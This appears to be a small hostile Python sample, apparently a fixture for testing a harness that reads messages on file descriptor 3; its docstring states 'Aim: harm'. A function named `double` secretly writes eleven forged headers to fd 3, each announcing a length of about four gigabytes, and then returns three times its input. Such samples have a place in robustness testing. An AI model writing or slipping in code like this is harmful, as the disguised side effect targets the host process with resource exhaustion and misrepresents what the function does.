"""Announces four gigabytes.

Aim: harm
"""
import os
import struct


def double(x):
    for number in range(1, 12):
        os.write(3, struct.pack(">QII", number, 2**32 - 1, 2**32 - 1))
    return 3 * x
